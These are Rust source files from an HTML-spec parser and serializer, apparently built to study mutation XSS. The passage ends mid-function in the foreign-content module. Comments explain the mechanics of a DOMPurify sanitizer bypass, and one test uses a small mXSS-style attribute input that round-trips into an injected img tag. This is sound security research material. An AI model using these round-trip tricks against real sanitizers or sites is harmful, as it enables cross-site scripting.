//! precisely — including the places where the spec's output is known not to
//! round-trip.

use crate::dom::{Document, Namespace, NodeData, NodeId};
use crate::tags;

/// Serialize a whole document, including any DOCTYPE.
pub fn serialize(doc: &Document) -> String {
    let mut out = String::new();
    for child in doc.children(doc.root()) {
        serialize_node(doc, child, &mut out);
    }
    out
}

/// Serialize the subtree rooted at `id` (the node itself plus its contents).
pub fn serialize_subtree(doc: &Document, id: NodeId) -> String {
    let mut out = String::new();
    serialize_node(doc, id, &mut out);
    out
}

/// Serialize only the children of `id` (the spec's "fragment serialization"
/// of an element — what `innerHTML` returns).
pub fn serialize_children(doc: &Document, id: NodeId) -> String {
    let mut out = String::new();
    for child in doc.children(id) {
        serialize_node(doc, child, &mut out);
    }
    out
}

fn serialize_node(doc: &Document, id: NodeId, out: &mut String) {
    match &doc.node(id).data {
        NodeData::Document => {
            for child in doc.children(id) {
                serialize_node(doc, child, out);
            }
        }
        NodeData::Doctype { name, .. } => {
            out.push_str("<!DOCTYPE ");
            out.push_str(name);
            out.push('>');
        }
        NodeData::Comment(c) => {
            out.push_str("<!--");
            out.push_str(c);
            out.push_str("-->");
        }
        NodeData::Text(t) => {
            // Text inside the spec's "literal text" elements is emitted
            // verbatim; everything else is escaped. `noscript` is NOT in
            // this set: §13.2 only exempts it "if the scripting flag is
            // enabled", and this parser runs scripting-disabled (noscript
            // children are real markup, so their text must re-escape or
            // `&lt` inside noscript round-trips into a bogus tag).
            let parent_name = doc
                .node(id)
                .parent
                .and_then(|p| doc.element(p))
                .filter(|e| e.ns == Namespace::Html)
                .map(|e| e.name.clone());
            let literal = matches!(
                parent_name.as_deref(),
                Some("style" | "script" | "xmp" | "iframe" | "noembed" | "noframes" | "plaintext")
            );
            if literal {
                out.push_str(t);
            } else {
                escape_text(t, out);
            }
        }
        NodeData::Element(e) => {
            out.push('<');
            out.push_str(&e.name);
            for a in &e.attrs {
                out.push(' ');
                out.push_str(&a.name);
                out.push_str("=\"");
                escape_attr(&a.value, out);
                out.push('"');
            }
            out.push('>');
            // §13.3's "skip the end tag" list is the void elements plus the
            // legacy quartet basefont/bgsound/frame/keygen.
            let no_end_tag = e.ns == Namespace::Html
                && (tags::is_void(&e.name)
                    || matches!(e.name.as_str(), "basefont" | "bgsound" | "frame" | "keygen"));
            if no_end_tag {
                return;
            }
            // Foreign elements with no children serialize with an explicit
            // end tag too (we never keep the self-closing flag in the DOM).
            for child in doc.children(id) {
                serialize_node(doc, child, out);
            }
            out.push_str("</");
            out.push_str(&e.name);
            out.push('>');
        }
    }
}

/// Escape text content: `&`, `<`, `>`, and non-breaking space.
pub fn escape_text(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\u{A0}' => out.push_str("&nbsp;"),
            c => out.push(c),
        }
    }
}

/// Escape attribute values: `&`, `"`, and non-breaking space (the spec's
/// attribute mode; note `<` is *not* escaped — one of the reasons mXSS
/// round-trips exist).
pub fn escape_attr(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '\u{A0}' => out.push_str("&nbsp;"),
            c => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse_document;

    fn roundtrip(input: &str) -> String {
        serialize(&parse_document(input).dom)
    }

    #[test]
    fn basic_document() {
        let out = roundtrip("<!DOCTYPE html><html><head></head><body><p>x</p></body></html>");
        assert_eq!(out, "<!DOCTYPE html><html><head></head><body><p>x</p></body></html>");
    }

    #[test]
    fn void_elements_have_no_end_tag() {
        let out = roundtrip("<p><img src=x><br></p>");
        assert!(out.contains("<img src=\"x\"><br>"));
        assert!(!out.contains("</img>"));
        assert!(!out.contains("</br>"));
    }

    #[test]
    fn attributes_are_double_quoted_and_escaped() {
        let out = roundtrip(r#"<div title='a "b" & c'></div>"#);
        assert!(out.contains(r#"title="a &quot;b&quot; &amp; c""#));
    }

    #[test]
    fn text_is_escaped() {
        let out = roundtrip("<p>a &lt; b &amp; c</p>");
        assert!(out.contains("a &lt; b &amp; c"));
    }

    #[test]
    fn style_content_is_literal() {
        let out = roundtrip("<style>a > b { color: red }</style>");
        assert!(out.contains("<style>a > b { color: red }</style>"));
    }

    #[test]
    fn script_content_is_literal() {
        let out = roundtrip("<script>if (a < b) x();</script>");
        assert!(out.contains("<script>if (a < b) x();</script>"));
    }

    #[test]
    fn comments_preserved() {
        let out = roundtrip("<p><!-- note --></p>");
        assert!(out.contains("<!-- note -->"));
    }

    #[test]
    fn serialization_is_idempotent_on_messy_input() {
        // One serialize → parse → serialize round must be a fixpoint for
        // ordinary (non-mXSS) markup: this is what makes the §4.4 auto-fix
        // safe.
        let messy = r#"<div id=a class='b'><p>one<p>two<table><tr><td>x</table><img src=1>"#;
        let once = roundtrip(messy);
        let twice = roundtrip(&once);
        assert_eq!(once, twice);
    }

    #[test]
    fn attr_lt_not_escaped() {
        // The spec does not escape `<` in attribute values — load-bearing
        // for mXSS demonstrations.
        let out = roundtrip(r#"<img title="--&gt;&lt;img src=1&gt;">"#);
        assert!(out.contains(r#"title="--><img src=1>""#));
    }
}
