//! Element-name classification tables used by the tree builder, serializer,
//! and violation checkers.
//!
//! Names are kept as lowercase strings (HTML tag names are ASCII
//! case-insensitive; the tokenizer lowercases them), and this module provides
//! the membership sets the specification keys its algorithms on: the
//! *special* category, void elements, the foreign-content breakout list,
//! implied-end-tag sets, and the table/select scoping sets.
//!
//! The string predicates (`is_void(&str)` & friends) are the source of
//! truth. For the hot paths, each predicate also has an [`Atom`] form
//! (`is_void_atom` &c.) that answers in O(1): on first use the string
//! predicate is evaluated over every entry of [`STATIC_ATOMS`] into a
//! bitset, and a static atom probes one bit. Dynamic atoms (names outside
//! the static table) fall back to the string predicate, so the two forms
//! are equivalent *by construction* — and `tests/atom_semantics.rs` pins
//! the equivalence exhaustively anyway.

use crate::atoms::{Atom, STATIC_ATOMS};
use std::sync::OnceLock;

/// A bitset keyed by static-atom id.
struct AtomSet {
    words: Box<[u64]>,
}

impl AtomSet {
    fn build(pred: fn(&str) -> bool) -> AtomSet {
        let mut words = vec![0u64; STATIC_ATOMS.len().div_ceil(64)].into_boxed_slice();
        for (id, name) in STATIC_ATOMS.iter().enumerate() {
            if pred(name) {
                words[id >> 6] |= 1 << (id & 63);
            }
        }
        AtomSet { words }
    }

    #[inline]
    fn contains(&self, id: usize) -> bool {
        self.words[id >> 6] & (1 << (id & 63)) != 0
    }
}

/// All classification bitsets, derived once from the string predicates.
struct ClassSets {
    void: AtomSet,
    special: AtomSet,
    formatting: AtomSet,
    head_content: AtomSet,
    closes_p: AtomSet,
    implied_end: AtomSet,
    rcdata: AtomSet,
    rawtext: AtomSet,
    foreign_breakout: AtomSet,
    mathml_text_integration: AtomSet,
    svg_html_integration: AtomSet,
    url_attribute: AtomSet,
    /// Static-id → static-id map for the SVG camelCase tag fixups (both
    /// spellings are in the table by construction).
    svg_fixup: Box<[u16]>,
}

fn sets() -> &'static ClassSets {
    static SETS: OnceLock<ClassSets> = OnceLock::new();
    SETS.get_or_init(|| {
        let svg_fixup = STATIC_ATOMS
            .iter()
            .enumerate()
            .map(|(id, name)| match svg_tag_fixup(name) {
                Some(fixed) => match Atom::from_name(fixed).static_id() {
                    Some(fixed_id) => fixed_id as u16,
                    None => unreachable!("fixup target {fixed:?} missing from STATIC_ATOMS"),
                },
                None => id as u16,
            })
            .collect();
        ClassSets {
            void: AtomSet::build(is_void),
            special: AtomSet::build(is_special),
            formatting: AtomSet::build(is_formatting),
            head_content: AtomSet::build(is_head_content),
            closes_p: AtomSet::build(closes_p),
            implied_end: AtomSet::build(implied_end_tag),
            rcdata: AtomSet::build(is_rcdata),
            rawtext: AtomSet::build(is_rawtext),
            foreign_breakout: AtomSet::build(is_foreign_breakout),
            mathml_text_integration: AtomSet::build(is_mathml_text_integration),
            svg_html_integration: AtomSet::build(is_svg_html_integration),
            url_attribute: AtomSet::build(is_url_attribute),
            svg_fixup,
        }
    })
}

macro_rules! atom_predicate {
    ($(#[$doc:meta])* $atom_fn:ident, $set:ident, $str_fn:ident) => {
        $(#[$doc])*
        #[inline]
        pub fn $atom_fn(name: &Atom) -> bool {
            match name.static_id() {
                Some(id) => sets().$set.contains(id),
                None => $str_fn(name.as_str()),
            }
        }
    };
}

atom_predicate!(
    /// O(1) form of [`is_void`].
    is_void_atom, void, is_void
);
atom_predicate!(
    /// O(1) form of [`is_special`].
    is_special_atom, special, is_special
);
atom_predicate!(
    /// O(1) form of [`is_formatting`].
    is_formatting_atom, formatting, is_formatting
);
atom_predicate!(
    /// O(1) form of [`is_head_content`].
    is_head_content_atom, head_content, is_head_content
);
atom_predicate!(
    /// O(1) form of [`closes_p`].
    closes_p_atom, closes_p, closes_p
);
atom_predicate!(
    /// O(1) form of [`implied_end_tag`].
    implied_end_tag_atom, implied_end, implied_end_tag
);
atom_predicate!(
    /// O(1) form of [`is_rcdata`].
    is_rcdata_atom, rcdata, is_rcdata
);
atom_predicate!(
    /// O(1) form of [`is_rawtext`].
    is_rawtext_atom, rawtext, is_rawtext
);
atom_predicate!(
    /// O(1) form of [`is_foreign_breakout`].
    is_foreign_breakout_atom, foreign_breakout, is_foreign_breakout
);
atom_predicate!(
    /// O(1) form of [`is_mathml_text_integration`].
    is_mathml_text_integration_atom, mathml_text_integration, is_mathml_text_integration
);
atom_predicate!(
    /// O(1) form of [`is_svg_html_integration`].
    is_svg_html_integration_atom, svg_html_integration, is_svg_html_integration
);
atom_predicate!(
    /// O(1) form of [`is_url_attribute`].
    is_url_attribute_atom, url_attribute, is_url_attribute
);

/// O(1) form of [`svg_tag_fixup`]: the adjusted atom for a lowercased SVG
/// tag name, or a clone of the input when no fixup applies.
pub fn svg_tag_fixup_atom(name: &Atom) -> Atom {
    match name.static_id() {
        Some(id) => {
            let fixed = sets().svg_fixup[id];
            if fixed as usize == id {
                name.clone()
            } else {
                Atom::from_static_id(fixed)
            }
        }
        None => match svg_tag_fixup(name.as_str()) {
            Some(fixed) => Atom::from_name(fixed),
            None => name.clone(),
        },
    }
}

/// Elements with no end tag at all (§13.1.2 "void elements").
pub fn is_void(name: &str) -> bool {
    matches!(
        name,
        "area"
            | "base"
            | "br"
            | "col"
            | "embed"
            | "hr"
            | "img"
            | "input"
            | "link"
            | "meta"
            | "param"
            | "source"
            | "track"
            | "wbr"
    )
}

/// The spec's "special" element category (§13.2.4.2), which controls end-tag
/// matching in "in body".
pub fn is_special(name: &str) -> bool {
    matches!(
        name,
        "address"
            | "applet"
            | "area"
            | "article"
            | "aside"
            | "base"
            | "basefont"
            | "bgsound"
            | "blockquote"
            | "body"
            | "br"
            | "button"
            | "caption"
            | "center"
            | "col"
            | "colgroup"
            | "dd"
            | "details"
            | "dir"
            | "div"
            | "dl"
            | "dt"
            | "embed"
            | "fieldset"
            | "figcaption"
            | "figure"
            | "footer"
            | "form"
            | "frame"
            | "frameset"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "head"
            | "header"
            | "hgroup"
            | "hr"
            | "html"
            | "iframe"
            | "img"
            | "input"
            | "keygen"
            | "li"
            | "link"
            | "listing"
            | "main"
            | "marquee"
            | "menu"
            | "meta"
            | "nav"
            | "noembed"
            | "noframes"
            | "noscript"
            | "object"
            | "ol"
            | "p"
            | "param"
            | "plaintext"
            | "pre"
            | "script"
            | "search"
            | "section"
            | "select"
            | "source"
            | "style"
            | "summary"
            | "table"
            | "tbody"
            | "td"
            | "template"
            | "textarea"
            | "tfoot"
            | "th"
            | "thead"
            | "title"
            | "tr"
            | "track"
            | "ul"
            | "wbr"
            | "xmp"
    )
}

/// Formatting elements tracked in the list of active formatting elements.
pub fn is_formatting(name: &str) -> bool {
    matches!(
        name,
        "a" | "b"
            | "big"
            | "code"
            | "em"
            | "font"
            | "i"
            | "nobr"
            | "s"
            | "small"
            | "strike"
            | "strong"
            | "tt"
            | "u"
    )
}

/// Elements allowed as metadata content in `head` (§4.2.1). `noscript` and
/// `template` are permitted by the parser's "in head" mode as well.
pub fn is_head_content(name: &str) -> bool {
    matches!(
        name,
        "base"
            | "basefont"
            | "bgsound"
            | "link"
            | "meta"
            | "title"
            | "noscript"
            | "noframes"
            | "style"
            | "script"
            | "template"
    )
}

/// Elements that close an open `p` element when they start (§13.2.6.4.7,
/// "close a p element" list).
pub fn closes_p(name: &str) -> bool {
    matches!(
        name,
        "address"
            | "article"
            | "aside"
            | "blockquote"
            | "center"
            | "details"
            | "dialog"
            | "dir"
            | "div"
            | "dl"
            | "fieldset"
            | "figcaption"
            | "figure"
            | "footer"
            | "header"
            | "hgroup"
            | "main"
            | "menu"
            | "nav"
            | "ol"
            | "p"
            | "search"
            | "section"
            | "summary"
            | "ul"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "pre"
            | "listing"
            | "form"
            | "plaintext"
            | "table"
            | "hr"
            | "xmp"
            | "li"
            | "dd"
            | "dt"
    )
}

/// The "generate implied end tags" set (§13.2.6.3).
pub fn implied_end_tag(name: &str) -> bool {
    matches!(name, "dd" | "dt" | "li" | "optgroup" | "option" | "p" | "rb" | "rp" | "rt" | "rtc")
}

/// Elements whose start tag switches the tokenizer to RCDATA.
pub fn is_rcdata(name: &str) -> bool {
    matches!(name, "title" | "textarea")
}

/// Elements whose start tag switches the tokenizer to RAWTEXT.
pub fn is_rawtext(name: &str) -> bool {
    matches!(name, "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript")
}

/// The foreign-content breakout list (§13.2.6.5): an HTML start tag with one
/// of these names, while in foreign (SVG/MathML) content, pops the foreign
/// elements and is reprocessed using HTML rules. This is the machinery behind
/// the paper's HF5 violations and the Figure-1 mXSS.
pub fn is_foreign_breakout(name: &str) -> bool {
    matches!(
        name,
        "b" | "big"
            | "blockquote"
            | "body"
            | "br"
            | "center"
            | "code"
            | "dd"
            | "div"
            | "dl"
            | "dt"
            | "em"
            | "embed"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "head"
            | "hr"
            | "i"
            | "img"
            | "li"
            | "listing"
            | "menu"
            | "meta"
            | "nobr"
            | "ol"
            | "p"
            | "pre"
            | "ruby"
            | "s"
            | "small"
            | "span"
            | "strong"
            | "strike"
            | "sub"
            | "sup"
            | "table"
            | "tt"
            | "u"
            | "ul"
            | "var"
    )
}

/// MathML text integration points (§13.2.6.5): inside these, HTML rules apply
/// to most tokens.
pub fn is_mathml_text_integration(name: &str) -> bool {
    matches!(name, "mi" | "mo" | "mn" | "ms" | "mtext")
}

/// SVG elements that are HTML integration points.
pub fn is_svg_html_integration(name: &str) -> bool {
    matches!(name, "foreignObject" | "desc" | "title")
}

/// Element names that exist only in the SVG namespace (used by the HF5_1
/// checker to spot foreign-only elements parsed as HTML).
pub fn is_svg_only(name: &str) -> bool {
    matches!(
        name,
        "circle"
            | "clippath"
            | "defs"
            | "ellipse"
            | "fegaussianblur"
            | "filter"
            | "g"
            | "lineargradient"
            | "marker"
            | "mask"
            | "path"
            | "pattern"
            | "polygon"
            | "polyline"
            | "radialgradient"
            | "rect"
            | "stop"
            | "symbol"
            | "tspan"
            | "use"
    )
}

/// Element names that exist only in the MathML namespace.
pub fn is_mathml_only(name: &str) -> bool {
    matches!(
        name,
        "annotation"
            | "annotation-xml"
            | "maction"
            | "merror"
            | "mfrac"
            | "mglyph"
            | "mi"
            | "mmultiscripts"
            | "mn"
            | "mo"
            | "mover"
            | "mpadded"
            | "mphantom"
            | "mroot"
            | "mrow"
            | "ms"
            | "mspace"
            | "msqrt"
            | "mstyle"
            | "msub"
            | "msubsup"
            | "msup"
            | "mtable"
            | "mtd"
            | "mtext"
            | "mtr"
            | "munder"
            | "munderover"
            | "semantics"
    )
}

/// The SVG camelCase tag-name fixups of §13.2.6.5 ("Any other start tag" in
/// foreign content): the tokenizer lowercases names; inside SVG the parser
/// restores the canonical mixed-case spelling.
pub fn svg_tag_fixup(lower: &str) -> Option<&'static str> {
    Some(match lower {
        "altglyph" => "altGlyph",
        "altglyphdef" => "altGlyphDef",
        "altglyphitem" => "altGlyphItem",
        "animatecolor" => "animateColor",
        "animatemotion" => "animateMotion",
        "animatetransform" => "animateTransform",
        "clippath" => "clipPath",
        "feblend" => "feBlend",
        "fecolormatrix" => "feColorMatrix",
        "fecomponenttransfer" => "feComponentTransfer",
        "fecomposite" => "feComposite",
        "feconvolvematrix" => "feConvolveMatrix",
        "fediffuselighting" => "feDiffuseLighting",
        "fedisplacementmap" => "feDisplacementMap",
        "fedistantlight" => "feDistantLight",
        "fedropshadow" => "feDropShadow",
        "feflood" => "feFlood",
        "fefunca" => "feFuncA",
        "fefuncb" => "feFuncB",
        "fefuncg" => "feFuncG",
        "fefuncr" => "feFuncR",
        "fegaussianblur" => "feGaussianBlur",
        "feimage" => "feImage",
        "femerge" => "feMerge",
        "femergenode" => "feMergeNode",
        "femorphology" => "feMorphology",
        "feoffset" => "feOffset",
        "fepointlight" => "fePointLight",
        "fespecularlighting" => "feSpecularLighting",
        "fespotlight" => "feSpotLight",
        "fetile" => "feTile",
        "feturbulence" => "feTurbulence",
        "foreignobject" => "foreignObject",
        "glyphref" => "glyphRef",
        "lineargradient" => "linearGradient",
        "radialgradient" => "radialGradient",
        "textpath" => "textPath",
        _ => return None,
    })
}

/// Attribute names the paper's DE3_1 / mitigation analyses treat as URLs
/// (§4.5 and Mike West's dangling-markup mitigation).
pub fn is_url_attribute(name: &str) -> bool {
    matches!(
        name,
        "href"
            | "src"
            | "action"
            | "formaction"
            | "data"
            | "poster"
            | "background"
            | "cite"
            | "longdesc"
            | "usemap"
            | "srcset"
            | "ping"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn void_elements() {
        assert!(is_void("img"));
        assert!(is_void("br"));
        assert!(!is_void("div"));
        assert!(!is_void("textarea"));
    }

    #[test]
    fn breakout_contains_figure1_actors() {
        // The DOMPurify bypass relies on <img> (and <table>) being breakout
        // elements while <style> and <mglyph> are not.
        assert!(is_foreign_breakout("img"));
        assert!(is_foreign_breakout("table"));
        assert!(!is_foreign_breakout("style"));
        assert!(!is_foreign_breakout("mglyph"));
        assert!(!is_foreign_breakout("svg"));
    }

    #[test]
    fn integration_points() {
        assert!(is_mathml_text_integration("mtext"));
        assert!(!is_mathml_text_integration("mglyph"));
        assert!(is_svg_html_integration("foreignObject"));
    }

    #[test]
    fn svg_case_fixups() {
        assert_eq!(svg_tag_fixup("clippath"), Some("clipPath"));
        assert_eq!(svg_tag_fixup("foreignobject"), Some("foreignObject"));
        assert_eq!(svg_tag_fixup("rect"), None);
    }

    #[test]
    fn url_attributes() {
        assert!(is_url_attribute("href"));
        assert!(is_url_attribute("formaction"));
        assert!(!is_url_attribute("title"));
    }

    #[test]
    fn head_content() {
        assert!(is_head_content("meta"));
        assert!(is_head_content("base"));
        assert!(!is_head_content("div"));
        assert!(!is_head_content("h1"));
    }
}
