//! Element-name classification tables used by the tree builder, serializer,
//! and violation checkers.
//!
//! Names are kept as lowercase strings (HTML tag names are ASCII
//! case-insensitive; the tokenizer lowercases them), and this module provides
//! the membership sets the specification keys its algorithms on: the
//! *special* category, void elements, the foreign-content breakout list,
//! implied-end-tag sets, and the table/select scoping sets.

/// Elements with no end tag at all (§13.1.2 "void elements").
pub fn is_void(name: &str) -> bool {
    matches!(
        name,
        "area"
            | "base"
            | "br"
            | "col"
            | "embed"
            | "hr"
            | "img"
            | "input"
            | "link"
            | "meta"
            | "param"
            | "source"
            | "track"
            | "wbr"
    )
}

/// The spec's "special" element category (§13.2.4.2), which controls end-tag
/// matching in "in body".
pub fn is_special(name: &str) -> bool {
    matches!(
        name,
        "address"
            | "applet"
            | "area"
            | "article"
            | "aside"
            | "base"
            | "basefont"
            | "bgsound"
            | "blockquote"
            | "body"
            | "br"
            | "button"
            | "caption"
            | "center"
            | "col"
            | "colgroup"
            | "dd"
            | "details"
            | "dir"
            | "div"
            | "dl"
            | "dt"
            | "embed"
            | "fieldset"
            | "figcaption"
            | "figure"
            | "footer"
            | "form"
            | "frame"
            | "frameset"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "head"
            | "header"
            | "hgroup"
            | "hr"
            | "html"
            | "iframe"
            | "img"
            | "input"
            | "keygen"
            | "li"
            | "link"
            | "listing"
            | "main"
            | "marquee"
            | "menu"
            | "meta"
            | "nav"
            | "noembed"
            | "noframes"
            | "noscript"
            | "object"
            | "ol"
            | "p"
            | "param"
            | "plaintext"
            | "pre"
            | "script"
            | "search"
            | "section"
            | "select"
            | "source"
            | "style"
            | "summary"
            | "table"
            | "tbody"
            | "td"
            | "template"
            | "textarea"
            | "tfoot"
            | "th"
            | "thead"
            | "title"
            | "tr"
            | "track"
            | "ul"
            | "wbr"
            | "xmp"
    )
}

/// Formatting elements tracked in the list of active formatting elements.
pub fn is_formatting(name: &str) -> bool {
    matches!(
        name,
        "a" | "b"
            | "big"
            | "code"
            | "em"
            | "font"
            | "i"
            | "nobr"
            | "s"
            | "small"
            | "strike"
            | "strong"
            | "tt"
            | "u"
    )
}

/// Elements allowed as metadata content in `head` (§4.2.1). `noscript` and
/// `template` are permitted by the parser's "in head" mode as well.
pub fn is_head_content(name: &str) -> bool {
    matches!(
        name,
        "base"
            | "basefont"
            | "bgsound"
            | "link"
            | "meta"
            | "title"
            | "noscript"
            | "noframes"
            | "style"
            | "script"
            | "template"
    )
}

/// Elements that close an open `p` element when they start (§13.2.6.4.7,
/// "close a p element" list).
pub fn closes_p(name: &str) -> bool {
    matches!(
        name,
        "address"
            | "article"
            | "aside"
            | "blockquote"
            | "center"
            | "details"
            | "dialog"
            | "dir"
            | "div"
            | "dl"
            | "fieldset"
            | "figcaption"
            | "figure"
            | "footer"
            | "header"
            | "hgroup"
            | "main"
            | "menu"
            | "nav"
            | "ol"
            | "p"
            | "search"
            | "section"
            | "summary"
            | "ul"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "pre"
            | "listing"
            | "form"
            | "plaintext"
            | "table"
            | "hr"
            | "xmp"
            | "li"
            | "dd"
            | "dt"
    )
}

/// The "generate implied end tags" set (§13.2.6.3).
pub fn implied_end_tag(name: &str) -> bool {
    matches!(name, "dd" | "dt" | "li" | "optgroup" | "option" | "p" | "rb" | "rp" | "rt" | "rtc")
}

/// Elements whose start tag switches the tokenizer to RCDATA.
pub fn is_rcdata(name: &str) -> bool {
    matches!(name, "title" | "textarea")
}

/// Elements whose start tag switches the tokenizer to RAWTEXT.
pub fn is_rawtext(name: &str) -> bool {
    matches!(name, "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript")
}

/// The foreign-content breakout list (§13.2.6.5): an HTML start tag with one
/// of these names, while in foreign (SVG/MathML) content, pops the foreign
/// elements and is reprocessed using HTML rules. This is the machinery behind
/// the paper's HF5 violations and the Figure-1 mXSS.
pub fn is_foreign_breakout(name: &str) -> bool {
    matches!(
        name,
        "b" | "big"
            | "blockquote"
            | "body"
            | "br"
            | "center"
            | "code"
            | "dd"
            | "div"
            | "dl"
            | "dt"
            | "em"
            | "embed"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "head"
            | "hr"
            | "i"
            | "img"
            | "li"
            | "listing"
            | "menu"
            | "meta"
            | "nobr"
            | "ol"
            | "p"
            | "pre"
            | "ruby"
            | "s"
            | "small"
            | "span"
            | "strong"
            | "strike"
            | "sub"
            | "sup"
            | "table"
            | "tt"
            | "u"
            | "ul"
            | "var"
    )
}

/// MathML text integration points (§13.2.6.5): inside these, HTML rules apply
/// to most tokens.
pub fn is_mathml_text_integration(name: &str) -> bool {
    matches!(name, "mi" | "mo" | "mn" | "ms" | "mtext")
}

/// SVG elements that are HTML integration points.
pub fn is_svg_html_integration(name: &str) -> bool {
    matches!(name, "foreignObject" | "desc" | "title")
}

/// Element names that exist only in the SVG namespace (used by the HF5_1
/// checker to spot foreign-only elements parsed as HTML).
pub fn is_svg_only(name: &str) -> bool {
    matches!(
        name,
        "circle"
            | "clippath"
            | "defs"
            | "ellipse"
            | "fegaussianblur"
            | "filter"
            | "g"
            | "lineargradient"
            | "marker"
            | "mask"
            | "path"
            | "pattern"
            | "polygon"
            | "polyline"
            | "radialgradient"
            | "rect"
            | "stop"
            | "symbol"
            | "tspan"
            | "use"
    )
}

/// Element names that exist only in the MathML namespace.
pub fn is_mathml_only(name: &str) -> bool {
    matches!(
        name,
        "annotation"
            | "annotation-xml"
            | "maction"
            | "merror"
            | "mfrac"
            | "mglyph"
            | "mi"
            | "mmultiscripts"
            | "mn"
            | "mo"
            | "mover"
            | "mpadded"
            | "mphantom"
            | "mroot"
            | "mrow"
            | "ms"
            | "mspace"
            | "msqrt"
            | "mstyle"
            | "msub"
            | "msubsup"
            | "msup"
            | "mtable"
            | "mtd"
            | "mtext"
            | "mtr"
            | "munder"
            | "munderover"
            | "semantics"
    )
}

/// The SVG camelCase tag-name fixups of §13.2.6.5 ("Any other start tag" in
/// foreign content): the tokenizer lowercases names; inside SVG the parser
/// restores the canonical mixed-case spelling.
pub fn svg_tag_fixup(lower: &str) -> Option<&'static str> {
    Some(match lower {
        "altglyph" => "altGlyph",
        "altglyphdef" => "altGlyphDef",
        "altglyphitem" => "altGlyphItem",
        "animatecolor" => "animateColor",
        "animatemotion" => "animateMotion",
        "animatetransform" => "animateTransform",
        "clippath" => "clipPath",
        "feblend" => "feBlend",
        "fecolormatrix" => "feColorMatrix",
        "fecomponenttransfer" => "feComponentTransfer",
        "fecomposite" => "feComposite",
        "feconvolvematrix" => "feConvolveMatrix",
        "fediffuselighting" => "feDiffuseLighting",
        "fedisplacementmap" => "feDisplacementMap",
        "fedistantlight" => "feDistantLight",
        "fedropshadow" => "feDropShadow",
        "feflood" => "feFlood",
        "fefunca" => "feFuncA",
        "fefuncb" => "feFuncB",
        "fefuncg" => "feFuncG",
        "fefuncr" => "feFuncR",
        "fegaussianblur" => "feGaussianBlur",
        "feimage" => "feImage",
        "femerge" => "feMerge",
        "femergenode" => "feMergeNode",
        "femorphology" => "feMorphology",
        "feoffset" => "feOffset",
        "fepointlight" => "fePointLight",
        "fespecularlighting" => "feSpecularLighting",
        "fespotlight" => "feSpotLight",
        "fetile" => "feTile",
        "feturbulence" => "feTurbulence",
        "foreignobject" => "foreignObject",
        "glyphref" => "glyphRef",
        "lineargradient" => "linearGradient",
        "radialgradient" => "radialGradient",
        "textpath" => "textPath",
        _ => return None,
    })
}

/// Attribute names the paper's DE3_1 / mitigation analyses treat as URLs
/// (§4.5 and Mike West's dangling-markup mitigation).
pub fn is_url_attribute(name: &str) -> bool {
    matches!(
        name,
        "href"
            | "src"
            | "action"
            | "formaction"
            | "data"
            | "poster"
            | "background"
            | "cite"
            | "longdesc"
            | "usemap"
            | "srcset"
            | "ping"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn void_elements() {
        assert!(is_void("img"));
        assert!(is_void("br"));
        assert!(!is_void("div"));
        assert!(!is_void("textarea"));
    }

    #[test]
    fn breakout_contains_figure1_actors() {
        // The DOMPurify bypass relies on <img> (and <table>) being breakout
        // elements while <style> and <mglyph> are not.
        assert!(is_foreign_breakout("img"));
        assert!(is_foreign_breakout("table"));
        assert!(!is_foreign_breakout("style"));
        assert!(!is_foreign_breakout("mglyph"));
        assert!(!is_foreign_breakout("svg"));
    }

    #[test]
    fn integration_points() {
        assert!(is_mathml_text_integration("mtext"));
        assert!(!is_mathml_text_integration("mglyph"));
        assert!(is_svg_html_integration("foreignObject"));
    }

    #[test]
    fn svg_case_fixups() {
        assert_eq!(svg_tag_fixup("clippath"), Some("clipPath"));
        assert_eq!(svg_tag_fixup("foreignobject"), Some("foreignObject"));
        assert_eq!(svg_tag_fixup("rect"), None);
    }

    #[test]
    fn url_attributes() {
        assert!(is_url_attribute("href"));
        assert!(is_url_attribute("formaction"));
        assert!(!is_url_attribute("title"));
    }

    #[test]
    fn head_content() {
        assert!(is_head_content("meta"));
        assert!(is_head_content("base"));
        assert!(!is_head_content("div"));
        assert!(!is_head_content("h1"));
    }
}
