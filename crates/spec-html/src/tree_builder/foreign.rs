//! Foreign content: parsing inside `<svg>` and `<math>` (§13.2.6.5).
//!
//! This is the machinery behind HF5 and the Figure-1 DOMPurify mXSS:
//! *integration points* make HTML rules apply inside certain foreign
//! elements (`mtext`, `foreignObject`, …), the *breakout list* makes certain
//! HTML start tags (`img`, `table`, …) pop all foreign elements, and
//! RAWTEXT-style elements like `<style>` parse differently in foreign
//! namespaces — comments inside them are real comments, not CSS text.

use super::{Builder, Ctl, TreeEventKind};
use crate::atoms::Atom;
use crate::dom::Namespace;
use crate::tags;
use crate::tokenizer::{Token, Tokenizer};

impl Builder {
    /// The adjusted current node (the current node, since we never parse
    /// fragments). Cloning the atom is an integer copy or `Arc` bump.
    fn adjusted_current(&self) -> Option<(Namespace, Atom)> {
        self.current().and_then(|id| self.doc.element(id)).map(|e| (e.ns, e.name.clone()))
    }

    /// §13.2.6 dispatcher condition: should this token be processed by the
    /// foreign content rules?
    pub(crate) fn use_foreign_rules(&self, token: &Token) -> bool {
        let Some((ns, name)) = self.adjusted_current() else { return false };
        if ns == Namespace::Html {
            return false;
        }
        // MathML text integration point: HTML rules except for
        // mglyph/malignmark start tags.
        if ns == Namespace::MathMl && tags::is_mathml_text_integration_atom(&name) {
            match token {
                Token::StartTag(t) if !matches!(t.name.as_str(), "mglyph" | "malignmark") => {
                    return false;
                }
                Token::Characters(_) => return false,
                _ => {}
            }
        }
